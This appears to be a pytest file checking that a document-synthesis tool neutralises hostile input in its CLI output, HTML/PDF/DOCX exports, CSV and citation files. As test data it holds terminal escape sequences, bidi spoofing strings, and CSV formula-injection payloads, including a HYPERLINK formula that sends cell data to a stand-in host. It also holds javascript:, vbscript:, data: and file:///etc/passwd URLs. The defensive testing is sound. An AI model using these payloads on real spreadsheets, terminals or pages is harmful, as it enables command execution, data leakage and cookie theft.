"""Nothing from a document acts on the reader's tools: the CLI prints no control characters,
report lines quote odd file names, exports drop what their formats forbid, and the app's
static route stops serving a document once it is removed."""

from __future__ import annotations

import io
import json

import pytest

from synth.brief.export import render_markdown_to
from synth.ingest.safeload import printable, quoted_name

HOSTILE = "Title \x01\x1b[2J\x1b]0;pwned\x07 \u202e \ud800 \ufffe end\x0c\x85"


def test_printable_and_quoted_names():
    assert printable("a\x1b[2Jb\nc\u2028d") == "a[2Jb c d"
    assert quoted_name("report.pdf") == "report.pdf"
    quoted = quoted_name("evil\nFAILED x.pdf: fine\x1b[2J.pdf")
    assert "\n" not in quoted and "\x1b" not in quoted
    assert json.loads(quoted) == "evil\nFAILED x.pdf: fine\x1b[2J.pdf"


@pytest.mark.parametrize("fmt", ["html", "pdf", "docx"])
def test_exports_drop_characters_their_format_forbids(fmt):
    md = f"# {HOSTILE}\n\nA paragraph with {HOSTILE}.\n\n| a | b |\n|---|---|\n| {HOSTILE} | x |\n"
    data = render_markdown_to(fmt, md, HOSTILE)
    if fmt == "html":
        text = data.decode()
        assert "\x1b" not in text and "\x01" not in text and "end" in text
    elif fmt == "docx":
        from docx import Document

        document = Document(io.BytesIO(data))
        assert document.paragraphs[0].text.startswith("Title")
    else:
        from pypdf import PdfReader

        assert "end" in PdfReader(io.BytesIO(data)).pages[0].extract_text()


def test_static_route_drops_removed_documents(
    tmp_path, monkeypatch, make_tiny_pdf, embedder_factory
):
    from synth.index import ingest, remove
    from synth.ui import static_docs

    pdfs = [make_tiny_pdf(k, tmp_path / f"{k}.pdf") for k in ("homework-clubs", "school-meals")]
    root = tmp_path / "index"
    report = ingest(pdfs, root, embedder=embedder_factory)
    folder = tmp_path / "static" / "docs"
    folder.mkdir(parents=True)
    for f in report.files:
        (folder / f"{f.doc_id}.pdf").write_bytes(b"%PDF")
    monkeypatch.setenv("SYNTH_INDEX", str(root))
    static_docs.prune(folder)
    assert len(list(folder.glob("*.pdf"))) == 2
    remove(["school-meals.pdf"], root)
    static_docs.prune(folder)
    assert [p.stem for p in folder.glob("*.pdf")] == [report.files[0].doc_id]


# ---------------------------------------------------------------- files other programs open

FORMULAS = [
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|x",
    "-2+3+cmd|x",
    "\t=1",
    "\r=1",
]


def test_toolkit_csv_export_neutralises_formulas_and_reads_back(tmp_path, capsys):
    import csv

    from synth.toolkit.entries import ToolkitEntry
    from synth.toolkit.exchange import entries_from_text, entries_to_csv

    entries = [
        ToolkitEntry(id=f"s{i}", title=f, topic="feedback", summary=f, effect_size=-0.21)
        for i, f in enumerate(FORMULAS)
    ]
    text = entries_to_csv(entries)
    path = tmp_path / "strands.csv"
    path.write_text(text)
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or cell == "-0.21", (name, cell)
    assert [r["effect_size"] for r in rows] == ["-0.21"] * len(FORMULAS)  # numbers stay numbers
    back = entries_from_text(text, "csv")
    assert [e.title for e in back] == FORMULAS  # the apostrophe comes off on import


def _hostile_reference():
    from synth.brief.references import Reference

    return Reference(
        doc_id="d1",
        source="evil.pdf",
        title='=HYPERLINK("http://x.test")',
        authors=["=cmd|' /C calc'!A0", "Smith, Jane"],
        year=2020,
        url="javascript:alert(document.cookie)",
    )


@pytest.mark.parametrize("fmt", ["ris", "bibtex", "csl"])
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<b>",
        "file:///etc/passwd",
        " javascript:alert(1)",
        "http://ok.test/\u202eexe.png",
        "vbscript:msgbox",
    ],
)
def test_citation_exports_carry_only_web_urls(tmp_path, fmt, url):
    from dataclasses import replace

    from synth.brief.references import export_references

    text = export_references([replace(_hostile_reference(), url=url)], fmt)
    path = tmp_path / f"refs.{fmt}"
    path.write_text(text)
    back = path.read_text().lower()
    for scheme in ("javascript:", "data:", "file://", "vbscript:", "\u202e"):
        assert scheme not in back
    good = export_references([replace(_hostile_reference(), url="https://example.org/a?b=1")], fmt)
    assert "https://example.org/a?b=1" in good


def test_brief_reference_list_links_only_web_urls():
    from synth.brief.references import _link

    assert _link(_hostile_reference()) == ""


# ---------------------------------------------------------------- one text filter

BIDI = (
    "Report \u202egnp.exe\u202c \u2066iso\u2069 \u200ftrap\u200e zero\u200bwidth \ufeffbom \u2060wj"
)
INVISIBLE = "\u202e\u202c\u2066\u2069\u200f\u200e\u200b\ufeff\u2060"


def test_the_one_filter_drops_bidi_zero_width_and_controls():
    from synth import safetext

    clean = safetext.invisible_free(BIDI + "\x1b[2J\x00")
    assert not any(c in clean for c in INVISIBLE + "\x1b\x00")
    assert "gnp.exe" in clean and "zerowidth" in clean
    # joiners that spell words in Persian, Hindi and Bengali stay
    assert safetext.invisible_free("\u0645\u06cc\u200c\u062e\u0648\u0627\u0645") == (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0645"
    )


def test_cli_output_and_app_text_use_the_one_filter():
    from synth.ui.text import html_text, plain

    for shown in (printable(BIDI), plain(BIDI), html_text(BIDI)):
        assert not any(c in shown for c in INVISIBLE.replace("\u2060", "")), repr(shown)
    assert "\u2060wj" not in plain(BIDI)


@pytest.mark.parametrize("fmt", ["md", "html", "pdf", "docx", "json"])
def test_briefs_in_every_format_drop_bidi_controls(fmt, corpus_index, embedder):
    from synth.brief.render import export_brief
    from synth.brief.synthesize import synthesize
    from synth.search import SearchSettings, search

    question = "What does homework do? " + BIDI
    hits = search(corpus_index, embedder, question, SearchSettings(k=5))
    data = export_brief(synthesize(corpus_index, embedder, question, hits), fmt)
    if fmt == "pdf":
        from pypdf import PdfReader

        text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(data)).pages)
    elif fmt == "docx":
        from docx import Document

        text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    else:
        text = data.decode()
    assert "gnp.exe" in text
    assert not any(c in text for c in INVISIBLE), [hex(ord(c)) for c in text if c in INVISIBLE]
